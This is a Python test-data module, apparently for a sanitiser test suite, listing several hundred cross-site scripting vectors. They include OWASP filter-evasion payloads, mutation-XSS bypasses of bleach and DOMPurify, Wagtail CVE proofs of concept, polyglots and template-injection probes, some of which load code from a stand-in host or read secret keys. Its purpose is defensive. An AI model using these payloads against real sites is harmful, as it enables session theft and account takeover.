"""Cross-site scripting vectors, as data.

Every vector has a unique id (``v001``…) and, wherever the technique allows it, runs
``__xss('<id>')`` when it executes, so that a browser test can tell which one ran. A few
vectors cannot carry a call (a stylesheet or a plug-in loaded from elsewhere, a VBScript
URL); they point at the reserved host ``xss.invalid`` instead, which a scan of the page
recognises.

Sources: the OWASP XSS Filter Evasion Cheat Sheet (its vectors rewritten with the marker),
the proofs of concept of past bleach and Wagtail advisories (named by CVE / GHSA id where
one exists), mutation-XSS payloads known from HTML sanitisers, attribute and context
breakers, and template-injection probes.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from dataclasses import dataclass

MARKER = "__xss"
# Where a vector cannot call the marker, it names this host (RFC 2606 reserves ".invalid").
EVIL_HOST = "xss.invalid"


@dataclass(frozen=True)
class Vector:
    id: str
    family: str
    source: str
    payload: str

    @property
    def call(self) -> str:
        return f"{MARKER}('{self.id}')"

    @property
    def shows_its_id(self) -> bool:
        """Whether the id is written out in the payload (so that it shows when rendered as text)."""
        return self.id in self.payload


def _dec(text: str, width: int = 0, semicolon: bool = True) -> str:
    end = ";" if semicolon else ""
    return "".join(f"&#{ord(char):0{width}d}{end}" for char in text)


def _hex(text: str, semicolon: bool = True) -> str:
    end = ";" if semicolon else ""
    return "".join(f"&#x{ord(char):X}{end}" for char in text)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _css_escape(text: str) -> str:
    return "".join(f"\\{ord(char):04x}" for char in text)


def _svg_document(call: str) -> str:
    return '<svg xmlns="http://www.w3.org/2000/svg" onload="' + call + '"/>'


def _char_codes(text: str) -> str:
    return ",".join(str(ord(char)) for char in text)


# (family, source, builder). A builder is a template where "§" stands for the marker call and
# "¤" for the bare id, or a function of (call, id).
_Builder = str | Callable[[str, str], str]
OWASP = "OWASP XSS Filter Evasion Cheat Sheet"

_SPECS: list[tuple[str, str, _Builder]] = [
    # --- Script tags --------------------------------------------------------------------------
    ("script", f"{OWASP}: basic script", "<SCRIPT>§</SCRIPT>"),
    ("script", f"{OWASP}: script from another site", f"<SCRIPT SRC=https://{EVIL_HOST}/¤.js></SCRIPT>"),
    ("script", f"{OWASP}: protocol-relative script", f"<SCRIPT SRC=//{EVIL_HOST}/¤.j>"),
    ("script", f"{OWASP}: script src as a data URL", "<script src=data:text/javascript,§></script>"),
    (
        "script",
        f"{OWASP}: non-alpha-non-digit after the tag name",
        '<SCRIPT/XSS SRC="data:text/javascript,§"></SCRIPT>',
    ),
    ("script", f"{OWASP}: slash instead of space", '<SCRIPT/SRC="data:,§"></SCRIPT>'),
    ("script", f"{OWASP}: extraneous open brackets", "<<SCRIPT>§;//<</SCRIPT>"),
    ("script", f"{OWASP}: no closing script tag", "<SCRIPT SRC=data:text/javascript,§?< B >"),
    ("script", f"{OWASP}: end title tag", "</TITLE><SCRIPT>§</SCRIPT>"),
    ("script", f"{OWASP}: script that does not end in .js", f'<SCRIPT SRC="//{EVIL_HOST}/¤.jpg"></SCRIPT>'),
    ("script", f"{OWASP}: HTML quote encapsulation 1", '<SCRIPT a=">" SRC="data:text/javascript,§"></SCRIPT>'),
    ("script", f"{OWASP}: HTML quote encapsulation 2", '<SCRIPT =">" SRC="data:text/javascript,§"></SCRIPT>'),
    ("script", f"{OWASP}: HTML quote encapsulation 3", '<SCRIPT a=">" \'\' SRC="data:text/javascript,§"></SCRIPT>'),
    ("script", f"{OWASP}: HTML quote encapsulation 4", '<SCRIPT "a=\'>\'" SRC="data:text/javascript,§"></SCRIPT>'),
    ("script", f"{OWASP}: HTML quote encapsulation 5", '<SCRIPT a=`>` SRC="data:text/javascript,§"></SCRIPT>'),
    ("script", f"{OWASP}: HTML quote encapsulation 6", '<SCRIPT a=">\'>" SRC="data:text/javascript,§"></SCRIPT>'),
    ("script", f"{OWASP}: script split by document.write", '<SCRIPT>document.write("<SCRI");</SCRIPT>PT>§</SCRIPT>'),
    ("script", "SVG script element", "<svg><script>§</script></svg>"),
    ("script", "script with a type that still runs", '<script type="text/javascript">§</script>'),
    ("script", "module script", '<script type="module">§</script>'),
    # --- Images and media ---------------------------------------------------------------------
    ("img", f"{OWASP}: image with a JavaScript URL", '<IMG SRC="javascript:§;">'),
    ("img", f"{OWASP}: no quotes and no semicolon", "<IMG SRC=javascript:§>"),
    ("img", f"{OWASP}: grave accent obfuscation", lambda c, i: f'<IMG SRC=`javascript:{MARKER}("{i}")`>'),
    ("img", f"{OWASP}: malformed IMG tags", '<IMG """><SCRIPT>§</SCRIPT>"\\>'),
    (
        "img",
        f"{OWASP}: fromCharCode",
        lambda c, i: f"<IMG SRC=javascript:{MARKER}(String.fromCharCode({_char_codes(i)}))>",
    ),
    ("img", f"{OWASP}: default SRC to get past filters", '<IMG SRC=# onmouseover="§">'),
    ("img", f"{OWASP}: default SRC by leaving it empty", '<IMG SRC= onmouseover="§">'),
    ("img", f"{OWASP}: default SRC by leaving it out", '<IMG onmouseover="§">'),
    ("img", f"{OWASP}: on error alert", '<IMG SRC=/ onerror="§"></img>'),
    (
        "img",
        f"{OWASP}: onerror with an encoded label",
        lambda c, i: f'<img src=x onerror="{_dec("javascript:", 7, False)}{c}">',
    ),
    ("img", "img onerror, the classic", "<img src=x onerror=§>"),
    ("img", "img onerror with slashes for spaces", "<img/src/onerror=§>"),
    ("img", "img onerror unclosed", "<img src=x onerror=§//"),
    ("img", "img onerror, mixed case attribute", "<img src=x oNeRrOr=§>"),
    ("img", "img onerror, JavaScript escape in the identifier", lambda c, i: f"<img src=x onerror=\\u005f_xss('{i}')>"),
    ("img", "img onerror through eval(atob())", lambda c, i: f"<img src=x onerror=eval(atob('{_b64(c)}'))>"),
    ("img", "img onerror through a computed property", lambda c, i: f"<img src=x onerror=window['__x'+'ss']('{i}')>"),
    ("img", f"{OWASP}: INPUT image", '<INPUT TYPE="IMAGE" SRC="javascript:§;">'),
    ("img", "input image onerror", "<input type=image src=x onerror=§>"),
    ("img", f"{OWASP}: IMG DYNSRC", '<IMG DYNSRC="javascript:§">'),
    ("img", f"{OWASP}: IMG LOWSRC", '<IMG LOWSRC="javascript:§">'),
    ("img", f"{OWASP}: IMG embedded commands", f'<IMG SRC="https://{EVIL_HOST}/somecommand?¤=1">'),
    ("img", "video source onerror", "<video><source onerror=§></video>"),
    ("img", "audio onerror", "<audio src=x onerror=§></audio>"),
    ("img", "video poster with a JavaScript URL", "<video poster=javascript:§></video>"),
    ("img", "srcset with a JavaScript URL", '<img srcset="javascript:§ 1x" src=x onerror=§>'),
    # --- SVG and MathML -----------------------------------------------------------------------
    ("svg", f"{OWASP}: SVG object tag", "<svg/onload=§>"),
    ("svg", "svg onload with spaces", '<svg onload="§"></svg>'),
    ("svg", "svg animate onbegin", "<svg><animate onbegin=§ attributeName=x dur=1s></svg>"),
    (
        "svg",
        "svg link with a JavaScript URL",
        '<svg><a xlink:href="javascript:§"><text x="0" y="20">x</text></a></svg>',
    ),
    (
        "svg",
        "svg set to an event attribute",
        '<svg><a><set attributeName="href" to="javascript:§"/><text y=20>x</text></a></svg>',
    ),
    (
        "svg",
        "MathML link with a JavaScript URL",
        '<math><maction actiontype="statusline" xlink:href="javascript:§">x</maction></math>',
    ),
    ("svg", "svg foreignObject", "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>"),
    # --- URL schemes (javascript:, vbscript:, data:) ------------------------------------------
    ("url", "link with a JavaScript URL", '<a href="javascript:§">link</a>'),
    ("url", f"{OWASP}: case-insensitive JavaScript URL", "<IMG SRC=JaVaScRiPt:§>"),
    (
        "url",
        f"{OWASP}: VBScript in an image",
        "<IMG SRC='vbscript:msgbox(\"¤\")'><a href=\"vbscript:msgbox('¤')\">vb</a>",
    ),
    ("url", f"{OWASP}: Livescript", '<IMG SRC="livescript:§"><a href="livescript:§">ls</a>'),
    ("url", "data: URL with HTML", '<a href="data:text/html,<script>§</script>">data</a>'),
    (
        "url",
        "data: URL with base64 HTML",
        lambda c, i: f'<a href="data:text/html;base64,{_b64(f"<script>{c}</script>")}">b64</a>',
    ),
    (
        "url",
        "iframe with a data: URL",
        lambda c, i: f'<iframe src="data:text/html;base64,{_b64(f"<script>parent.{c}</script>")}"></iframe>',
    ),
    ("url", "form action with a JavaScript URL", '<form action="javascript:§"><input type=submit value=go></form>'),
    ("url", "button formaction with a JavaScript URL", '<form><button formaction="javascript:§">go</button></form>'),
    ("url", f"{OWASP}: isindex action", '<isindex type=image src=1 onerror=§ action="javascript:§">'),
    (
        "url",
        f"{OWASP}: URL that navigates away",
        f"<A HREF=\"javascript:document.location='https://{EVIL_HOST}/¤'\">XSS</A>",
    ),
    ("url", "JavaScript URL with a leading space", '<a href=" javascript:§">sp</a>'),
    ("url", "JavaScript URL with a query-like tail", '<a href="javascript:§//?http://example.com">q</a>'),
    (
        "url",
        "Wagtail rich text link to a JavaScript URL (the form an editor's POST can carry)",
        '<p><a href="javascript:§">Xem tại đây</a></p>',
    ),
    # --- Entity-encoded URLs ------------------------------------------------------------------
    ("encoded-url", f"{OWASP}: decimal HTML character references", lambda c, i: f"<IMG SRC={_dec('javascript:')}{c}>"),
    (
        "encoded-url",
        f"{OWASP}: decimal references without semicolons",
        lambda c, i: f"<IMG SRC={_dec('javascript:', 7, False)}{c}>",
    ),
    (
        "encoded-url",
        f"{OWASP}: hexadecimal references without semicolons",
        lambda c, i: f"<IMG SRC={_hex('javascript:', False)}{c}>",
    ),
    ("encoded-url", "link with hexadecimal references", lambda c, i: f'<a href="{_hex("javascript:")}{c}">hex</a>'),
    (
        "encoded-url",
        "named character reference for the colon (bleach CVE-2018-7753)",
        '<a href="javascript&colon;§">colon</a>',
    ),
    (
        "encoded-url",
        "named character reference for a tab (bleach CVE-2018-7753)",
        '<a href="javas&Tab;cript:§">tab</a>',
    ),
    ("encoded-url", "partly encoded scheme", '<a href="&#x6A;avascript:§">j</a>'),
    ("encoded-url", "URL-encoded scheme", '<a href="javascript%3A§">pct</a>'),
    (
        "encoded-url",
        f"{OWASP}: DIV background-image with CSS unicode escapes",
        lambda c, i: (
            "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'"
            f'{_css_escape("javascript:")}{c}\\0027\\0029">x</DIV>'
        ),
    ),
    # --- Whitespace- and control-split schemes ------------------------------------------------
    ("whitespace-url", f"{OWASP}: embedded tab", '<IMG SRC="jav\tascript:§;">'),
    ("whitespace-url", f"{OWASP}: embedded encoded tab", '<IMG SRC="jav&#x09;ascript:§;">'),
    ("whitespace-url", f"{OWASP}: embedded newline", '<IMG SRC="jav&#x0A;ascript:§;">'),
    ("whitespace-url", f"{OWASP}: embedded carriage return", '<IMG SRC="jav&#x0D;ascript:§;">'),
    ("whitespace-url", "link with a literal newline in the scheme", '<a href="java\nscript:§">nl</a>'),
    ("whitespace-url", f"{OWASP}: spaces and meta characters before the scheme", '<IMG SRC=" &#14;  javascript:§;">'),
    ("whitespace-url", "link with a control character before the scheme", '<a href="\x01javascript:§">ctl</a>'),
    (
        "whitespace-url",
        f"{OWASP}: DIV background-image plus extra characters",
        '<DIV STYLE="background-image: url(&#1;javascript:§)">x</DIV>',
    ),
    # --- Null bytes ---------------------------------------------------------------------------
    ("null-byte", f"{OWASP}: null breaks up the JavaScript directive", "<IMG SRC=java\x00script:§>"),
    ("null-byte", "null byte inside a tag name", "<scri\x00pt>§</scri\x00pt>"),
    ("null-byte", "null byte before an event attribute", "<img src=x \x00onerror=§>"),
    ("null-byte", "URL-encoded null byte", "<img src=x%00 onerror=§>"),
    # --- Mixed case ---------------------------------------------------------------------------
    ("case", "mixed-case script tag", "<ScRiPt>§</sCrIpT>"),
    ("case", "upper-case event attribute", "<IMG SRC=x ONERROR=§>"),
    ("case", "mixed-case svg onload", "<sVg OnLoAd=§>"),
    # --- Malformed, nested and unclosed tags --------------------------------------------------
    ("malformed", f"{OWASP}: malformed A tag", '<a onmouseover="§">xxs link</a>'),
    ("malformed", f"{OWASP}: malformed A tag without quotes", "<a onmouseover=§>xxs link</a>"),
    ("malformed", f"{OWASP}: half-open HTML/JavaScript", '<IMG SRC="`javascript:§"`'),
    ("malformed", f"{OWASP}: double open angle brackets", "<iframe src=javascript:§ <"),
    (
        "malformed",
        f"{OWASP}: BODY tag with non-alpha-non-digit characters",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=§>",
    ),
    ("malformed", "nested script tags", "<scr<script>ipt>§</scr</script>ipt>"),
    ("malformed", "doubled angle brackets around img", "<<img src=x onerror=§>>"),
    ("malformed", "unclosed attribute and tag", '<img src="x" onerror="§"'),
    ("malformed", "tag split across an unclosed comment", '<!--<img src="--><img src=x onerror=§//">'),
    ("malformed", "CDATA section in HTML", "<![CDATA[><img src=x onerror=§>]]>"),
    ("malformed", f"{OWASP}: downlevel-hidden block", "<!--[if gte IE 4]><SCRIPT>§;</SCRIPT><![endif]-->"),
    ("malformed", "processing instruction", "<?xml version='1.0'?><img src=x onerror=§>"),
    ("malformed", f"{OWASP}: PHP", "<? echo('<SCR)';echo('IPT>§</SCRIPT>'); ?>"),
    (
        "malformed",
        f"{OWASP}: server-side include",
        f"<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=//{EVIL_HOST}/¤.js></SCRIPT>'\"-->",
    ),
    ("malformed", f"{OWASP}: & JavaScript includes", '<BR SIZE="&{§}">'),
    ("malformed", f"{OWASP}: XSS locator", "'';!--\"<XSS>=&{(§)}"),
    ("malformed", "tag name with a slash and attributes", "<img/onerror=§/src=x>"),
    # --- Event handlers on other elements -----------------------------------------------------
    ("event", f"{OWASP}: BODY onload", "<BODY ONLOAD=§>"),
    ("event", "body onpageshow", "<body onpageshow=§>"),
    ("event", "details ontoggle", "<details open ontoggle=§><summary>x</summary></details>"),
    ("event", "input autofocus onfocus", "<input autofocus onfocus=§>"),
    ("event", "select autofocus onfocus", "<select autofocus onfocus=§><option>x</option></select>"),
    ("event", "textarea autofocus onfocus", "<textarea autofocus onfocus=§></textarea>"),
    ("event", "marquee onstart", "<marquee onstart=§>x</marquee>"),
    ("event", "object onerror", "<object data=x onerror=§></object>"),
    ("event", "iframe onload", "<iframe onload=§></iframe>"),
    ("event", "element with a tab before the handler", "<img src=x\tonerror=§>"),
    ("event", "element with a newline before the handler", "<img src=x\nonerror=§>"),
    ("event", "focusable div with onfocusin", '<div tabindex=1 autofocus onfocusin="§">x</div>'),
    # --- Styles, expressions and stylesheets --------------------------------------------------
    (
        "style",
        f"{OWASP}: list-style-image",
        '<STYLE>li {list-style-image: url("javascript:§");}</STYLE><UL><LI>XSS</br>',
    ),
    ("style", f"{OWASP}: stylesheet link with a JavaScript URL", '<LINK REL="stylesheet" HREF="javascript:§;">'),
    ("style", f"{OWASP}: remote style sheet", f'<LINK REL="stylesheet" HREF="//{EVIL_HOST}/¤.css">'),
    ("style", f"{OWASP}: remote style sheet via @import", f"<STYLE>@import'//{EVIL_HOST}/¤.css';</STYLE>"),
    ("style", f"{OWASP}: -moz-binding", f'<STYLE>BODY{{-moz-binding:url("//{EVIL_HOST}/¤.xml#xss")}}</STYLE>'),
    ("style", f"{OWASP}: STYLE with broken-up JavaScript", "<STYLE>@im\\port'\\ja\\vasc\\ript:§';</STYLE>"),
    ("style", f"{OWASP}: expression broken up by a comment", '<IMG STYLE="xss:expr/*XSS*/ession(§)">'),
    (
        "style",
        f"{OWASP}: IMG STYLE with expression",
        "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(§)'>",
    ),
    ("style", f"{OWASP}: STYLE tag of type text/javascript", '<STYLE TYPE="text/javascript">§;</STYLE>'),
    (
        "style",
        f"{OWASP}: background-image in a STYLE tag",
        '<STYLE>.XSS{background-image:url("javascript:§");}</STYLE><A CLASS=XSS></A>',
    ),
    (
        "style",
        f"{OWASP}: background in a STYLE tag",
        '<STYLE type="text/css">BODY{background:url("javascript:§")}</STYLE>',
    ),
    ("style", f"{OWASP}: anonymous HTML with a STYLE attribute", '<XSS STYLE="xss:expression(§)">'),
    ("style", f"{OWASP}: local htc file", f'<XSS STYLE="behavior: url(//{EVIL_HOST}/¤.htc);">'),
    ("style", f"{OWASP}: DIV background-image", '<DIV STYLE="background-image: url(javascript:§)">x</DIV>'),
    ("style", f"{OWASP}: DIV expression", '<DIV STYLE="width: expression(§);">x</DIV>'),
    ("style", "style attribute allowed by a careless sanitiser", '<p style="background:url(javascript:§)">p</p>'),
    # --- Meta refresh, base and cookies -------------------------------------------------------
    ("meta", f"{OWASP}: META refresh", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:§;">'),
    (
        "meta",
        f"{OWASP}: META refresh with a data: URL",
        lambda c, i: (
            f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_b64(f"<script>{c}</script>")}">'
        ),
    ),
    (
        "meta",
        f"{OWASP}: META with an additional URL parameter",
        '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:§;">',
    ),
    ("meta", f"{OWASP}: META Link header", f'<META HTTP-EQUIV="Link" Content="<//{EVIL_HOST}/¤.css>; REL=stylesheet">'),
    ("meta", f"{OWASP}: cookie manipulation", '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>§</SCRIPT>">'),
    ("meta", f"{OWASP}: BASE tag", '<BASE HREF="javascript:§;//">'),
    # --- Frames, objects and embeds -----------------------------------------------------------
    ("frame", f"{OWASP}: IFRAME", '<IFRAME SRC="javascript:§;"></IFRAME>'),
    ("frame", f"{OWASP}: IFRAME event based", '<IFRAME SRC=# onmouseover="§"></IFRAME>'),
    ("frame", f"{OWASP}: FRAME", '<FRAMESET><FRAME SRC="javascript:§;"></FRAMESET>'),
    ("frame", "iframe srcdoc", '<iframe srcdoc="<script>§</script>"></iframe>'),
    ("frame", "iframe srcdoc with entities", lambda c, i: f'<iframe srcdoc="&lt;img src=x onerror={c}&gt;"></iframe>'),
    ("object", f"{OWASP}: OBJECT tag", f'<OBJECT TYPE="text/x-scriptlet" DATA="//{EVIL_HOST}/¤.html"></OBJECT>'),
    ("object", "object with a data: URL", '<object data="data:text/html,<script>§</script>"></object>'),
    (
        "object",
        f"{OWASP}: EMBED a Flash movie",
        f'<EMBED SRC="//{EVIL_HOST}/¤.swf" AllowScriptAccess="always"></EMBED>',
    ),
    (
        "object",
        f"{OWASP}: EMBED SVG",
        lambda c, i: (
            f'<EMBED SRC="data:image/svg+xml;base64,{_b64(_svg_document(c))}"'
            ' type="image/svg+xml" AllowScriptAccess="always"></EMBED>'
        ),
    ),
    ("object", "embed with a JavaScript URL", '<embed src="javascript:§">'),
    ("object", f"{OWASP}: BGSOUND", '<BGSOUND SRC="javascript:§;">'),
    ("object", f"{OWASP}: TABLE background", '<TABLE BACKGROUND="javascript:§">'),
    ("object", f"{OWASP}: TD background", '<TABLE><TD BACKGROUND="javascript:§">'),
    ("object", f"{OWASP}: BODY background image", '<BODY BACKGROUND="javascript:§">'),
    (
        "object",
        f"{OWASP}: XML data island with CDATA obfuscation",
        '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:§"></B></I></XML>'
        '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    ),
    (
        "object",
        f"{OWASP}: locally hosted XML",
        f'<XML SRC="//{EVIL_HOST}/¤.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>',
    ),
    (
        "object",
        f"{OWASP}: HTML+TIME in XML",
        '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
        '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" '
        'to="XSS<SCRIPT DEFER>§</SCRIPT>"></BODY></HTML>',
    ),
    # --- Breaking out of attributes, scripts and other contexts -------------------------------
    ("attribute-break", "double quote then handler", '" onmouseover="§" x="'),
    ("attribute-break", "single quote then handler", "' onmouseover='§' x='"),
    ("attribute-break", "double quote then tag", '"><img src=x onerror=§>'),
    ("attribute-break", "single quote then tag", "'><img src=x onerror=§>"),
    ("attribute-break", "double quote then autofocus", '" autofocus onfocus="§'),
    ("attribute-break", "unquoted attribute break", " onmouseover=§ "),
    ("attribute-break", "quote then svg", '"><svg onload=§>'),
    ("attribute-break", "close textarea", "</textarea><script>§</script>"),
    ("attribute-break", "close style", "</style><script>§</script>"),
    ("attribute-break", "close script", "</script><script>§</script>"),
    ("attribute-break", "close title then img", "</title><img src=x onerror=§>"),
    ("attribute-break", "close a comment", "--><script>§</script>"),
    ("attribute-break", "close a CDATA section", "]]><script>§</script>"),
    ("attribute-break", f"{OWASP}: escaping JavaScript escapes", '\\";§;//'),
    ("attribute-break", "break out of a JavaScript string (single quotes)", "';§;'"),
    ("attribute-break", "break out of a JavaScript string (double quotes)", '";§;"'),
    ("attribute-break", "break out of a JavaScript comment", "*/§/*"),
    ("attribute-break", "break out of JSON in a script", '"}</script><script>§</script>'),
    # --- Backticks ----------------------------------------------------------------------------
    ("backtick", "backtick-quoted attribute", "<img src=`x` onerror=`§`>"),
    ("backtick", "tagged template call", lambda c, i: f"<img src=x onerror={MARKER}`{i}`>"),
    ("backtick", "backtick then tag", "`><img src=x onerror=§>"),
    ("backtick", f"{OWASP}: ECMAScript 6 constructor", lambda c, i: f"Set.constructor`{MARKER}\\x28'{i}'\\x29```"),
    ("backtick", "template literal breakout", "${§}"),
    # --- Charsets and escape sequences --------------------------------------------------------
    (
        "charset",
        f"{OWASP}: UTF-7 encoding",
        '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>'
        "+ADw-SCRIPT+AD4-§;+ADw-/SCRIPT+AD4-",
    ),
    ("charset", "UTF-7 without a declaration", "+ADw-script+AD4-§+ADw-/script+AD4-"),
    ("charset", f"{OWASP}: US-ASCII encoding", "¼script¾§¼/script¾"),
    ("charset", "already escaped markup (double decoding)", "&lt;script&gt;§&lt;/script&gt;"),
    ("charset", "decimal references for the brackets", "&#60;img src=x onerror=§&#62;"),
    ("charset", "percent-encoded markup", "%3Cscript%3E§%3C%2Fscript%3E"),
    ("charset", "JavaScript escapes for the brackets", "\\x3cimg src=x onerror=§\\x3e"),
    ("charset", "JavaScript unicode escapes for the brackets", "\\u003cscript\\u003e§\\u003c/script\\u003e"),
    ("charset", "fullwidth brackets", "\uff1cscript\uff1e§\uff1c/script\uff1e"),
    ("charset", "overlong UTF-8 as text", "%C0%BCscript%C0%BE§%C0%BC/script%C0%BE"),
    # --- Polyglots ----------------------------------------------------------------------------
    (
        "polyglot",
        "the 0xsobky polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=§ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
        "\\x3csVg/<sVg/oNloAd=§//>\\x3e",
    ),
    ("polyglot", "multi-context polyglot", "'\"--></style></script><svg onload=§>"),
    ("polyglot", "comment polyglot", "<!--><svg onload=§>-->"),
    # --- Mutation XSS (parser differentials) --------------------------------------------------
    (
        "mxss",
        "noscript parsed differently with scripting on (bleach CVE-2020-6802, GHSA-q65m-pv3f-wr5r)",
        "<noscript><style></noscript><img src=x onerror=§>",
    ),
    (
        "mxss",
        "noscript attribute breakout (bleach CVE-2020-6802, GHSA-q65m-pv3f-wr5r)",
        '<noscript><p title="</noscript><img src=x onerror=§>"></noscript>',
    ),
    (
        "mxss",
        "svg with a raw-text style (bleach CVE-2020-6816, GHSA-m6xf-fq7q-8743)",
        "<svg><style><img src=x onerror=§></style></svg>",
    ),
    (
        "mxss",
        "math with a raw-text style (bleach CVE-2020-6816, GHSA-m6xf-fq7q-8743)",
        "<math><style><img src=x onerror=§></style></math>",
    ),
    (
        "mxss",
        "math, p and a commented style (bleach CVE-2021-23980, GHSA-vv2x-vrpj-qqpq)",
        "<math><p></p><style><!--</style><img src/onerror=§>",
    ),
    (
        "mxss",
        "math, a stray </p> and a commented style (bleach CVE-2021-23980, GHSA-vv2x-vrpj-qqpq)",
        "<math></p><style><!--</style><img src/onerror=§>",
    ),
    (
        "mxss",
        "svg, a stray </p> and a commented style (bleach CVE-2021-23980, GHSA-vv2x-vrpj-qqpq)",
        "<svg></p><style><!--</style><img src/onerror=§>",
    ),
    (
        "mxss",
        "svg p style title (DOMPurify namespace confusion)",
        '<svg><p><style><g title="</style><img src=x onerror=§>">',
    ),
    ("mxss", "svg style with a closing tag in an attribute", '<svg></p><style><a id="</style><img src=1 onerror=§>">'),
    (
        "mxss",
        "math mtext table mglyph style (DOMPurify 2.0.17 bypass)",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">',
    ),
    (
        "mxss",
        "form inside math (DOMPurify 2.0.0 bypass)",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>",
    ),
    ("mxss", "xmp attribute breakout", '<xmp><p title="</xmp><img src=x onerror=§>">'),
    ("mxss", "textarea attribute breakout", '<textarea><p title="</textarea><img src=x onerror=§>">'),
    ("mxss", "noembed attribute breakout", '<noembed><img title="</noembed><img src onerror=§>">'),
    ("mxss", "iframe raw text attribute breakout", '<iframe><p title="</iframe><img src=x onerror=§>">'),
    ("mxss", "title attribute breakout", '<title><p title="</title><img src=x onerror=§>">'),
    ("mxss", "template content", "<template><img src=x onerror=§></template>"),
    ("mxss", "noframes attribute breakout", '<noframes><p title="</noframes><img src=x onerror=§>">'),
    # --- Template and client-side framework injection -----------------------------------------
    ("template", "Django/Jinja expression", "¤{{ 7*7 }}"),
    ("template", "Django tag", "¤{% debug %}"),
    ("template", "Django tag reading the admin log", "¤{% load log %}{% get_admin_log 10 as log %}{{ log }}"),
    ("template", "Django settings lookup", "¤{{ settings.SECRET_KEY }}{{ request.user.password }}"),
    ("template", "Django template comment hiding markup", "¤{# <script>§</script> #}"),
    ("template", "AngularJS sandbox escape", "{{constructor.constructor('§')()}}"),
    ("template", "AngularJS with ng-app", "<div ng-app>{{$on.constructor('§')()}}</div>"),
    ("template", "Vue v-html", "<div v-html=\"'<img src=x onerror=§>'\"></div>"),
    ("template", "JavaScript template literal", "¤${7*7}"),
    ("template", "Ruby/Java expression", "¤#{7*7}"),
    ("template", "ERB/ASP expression", "¤<%= 7*7 %>"),
    ("template", "Blade unescaped output", "{!! '<script>§</script>' !!}"),
    ("template", "Handlebars triple stash", "{{{'<img src=x onerror=§>'}}}"),
    # --- Wagtail advisories -------------------------------------------------------------------
    (
        "wagtail",
        "Wagtail CVE-2020-11001 (GHSA-v2wc-pfq2-5cm6): page revision comparison view",
        "<b>trước</b><img src=x onerror=§>",
    ),
    (
        "wagtail",
        "Wagtail CVE-2020-15118 (GHSA-2473-9hgq-j7xw): form builder help text",
        'Xem <a href="javascript:§">hướng dẫn</a><script>§</script>',
    ),
    (
        "wagtail",
        "Wagtail CVE-2021-29434 (GHSA-wq5h-f9p5-q7fx): rich text link URL not validated on save",
        '<p><a href="javascript:§" linktype="external">liên kết</a></p>',
    ),
    (
        "wagtail",
        "Wagtail CVE-2021-32681 (GHSA-xfrw-hxr5-ghqf): include_block on a plain-text block",
        "</h2><script>§</script><h2>",
    ),
    (
        "wagtail",
        "Wagtail CVE-2023-28836 (GHSA-5286-f2rf-35c2): ModelAdmin/snippet listing and inspect view",
        '<img src=x onerror=§ alt="Chương trình">',
    ),
    (
        "wagtail",
        "Wagtail: titles in chooser modals and admin listings",
        "<span onmouseover=§>Tiêu đề</span><img src=x onerror=§>",
    ),
    ("wagtail", "Wagtail: StreamField block label or help text", '<div class="help"><img src=x onerror=§></div>'),
    (
        "wagtail",
        "Wagtail: TableBlock cell content and class names",
        '<td class="x" onmouseover=§><img src=x onerror=§></td>',
    ),
    (
        "wagtail",
        "Wagtail: richtext filter with a page link carrying an href",
        '<a linktype="page" id="1" href="javascript:§">trang</a>',
    ),
    ("wagtail", "Wagtail: richtext link type that is not a token", '<a linktype="javascript:§" id="1">x</a>'),
    (
        "wagtail",
        "Wagtail: richtext image embed with a hostile alt",
        '<embed embedtype="image" id="1" format="left" alt="x&quot; onerror=&quot;§"/>',
    ),
    ("wagtail", "Wagtail: richtext media embed with a JavaScript URL", '<embed embedtype="media" url="javascript:§"/>'),
    (
        "wagtail",
        "Wagtail: document link whose id is not a number",
        '<a linktype="document" id="1 onmouseover=§">tài liệu</a>',
    ),
    (
        "wagtail",
        "Wagtail: page link whose id is a token but not a number (crafted Draftail entity data)",
        '<a linktype="page" id="¤" onmouseover=§>trang</a><a linktype="document" id="¤">tài liệu</a>',
    ),
]


def _build(specs: list[tuple[str, str, _Builder]]) -> tuple[Vector, ...]:
    vectors = []
    for number, (family, source, builder) in enumerate(specs, start=1):
        vector_id = f"v{number:03d}"
        call = f"{MARKER}('{vector_id}')"
        payload = builder(call, vector_id) if callable(builder) else builder.replace("§", call).replace("¤", vector_id)
        vectors.append(Vector(id=vector_id, family=family, source=source, payload=payload))
    return tuple(vectors)


CORPUS: tuple[Vector, ...] = _build(_SPECS)
BY_ID: dict[str, Vector] = {vector.id: vector for vector in CORPUS}
FAMILIES: dict[str, list[Vector]] = {}
for _vector in CORPUS:
    FAMILIES.setdefault(_vector.family, []).append(_vector)

# Pieces of the vectors (tags, attribute names, schemes, quotes, entities), for mixing with
# random text: a split at every boundary a parser cares about.
_BOUNDARY = re.compile(r"""([<>"'`=/\s]|&[#\w]*;?)""")
FRAGMENTS: tuple[str, ...] = tuple(
    sorted({piece for vector in CORPUS for piece in _BOUNDARY.split(vector.payload) if piece})
)


def bundles(vectors: list[Vector] | tuple[Vector, ...], limit: int, separator: str = " ") -> list[list[Vector]]:
    """Vectors packed greedily, in order, into groups whose joined payloads fit in ``limit`` characters.

